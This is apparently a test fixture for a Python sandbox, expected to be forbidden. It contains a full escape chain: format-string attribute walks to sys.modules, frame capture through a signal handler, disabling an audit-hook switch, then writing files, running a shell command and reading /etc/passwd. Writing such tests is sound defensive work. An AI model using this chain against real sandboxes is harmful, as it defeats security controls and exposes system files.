# expect: forbidden
# the second review's chain: str.format fetched through a match pattern, a format field built at run time that walks to sys.modules, AttributeError.obj to keep what it reached, a signal handler for a frame, the audit hook's switch in the worker's frame, then files and a shell
# layer2: forbidden
import statistics

u = "_" * 2


def reach(name):
    walk = "{0." + u + "globals" + u + "[sys].modules[" + name + "].x}"
    match walk:
        case str(format=fmt):
            pass
    try:
        fmt(statistics.mean)
    except AttributeError as e:
        return e.obj


signal = reach("signal")
thread = reach("_thread")
frames = []
signal.signal(signal.SIGINT, lambda number, frame: frames.append(frame))
thread.interrupt_main()
total = sum(range(10000))
frame = frames[0]
for depth in range(6):
    try:
        ("{0.f_back" * (depth + 1) + ".f_locals.x" + "}" * 0).format(frame)
    except AttributeError as e:
        local = e.obj
        if "on" in local:
            local["on"][0] = False
        if "helpers" in local and "on" in local["helpers"]:
            local["helpers"]["on"][0] = False
os = reach("os")
builtins = reach("builtins")
builtins.open("KPDD_TMP/pwned.txt", "w").write("pwned")
os.system("touch KPDD_TMP/shell.txt")
answer = builtins.open("/etc/passwd").read()
# ruff: noqa
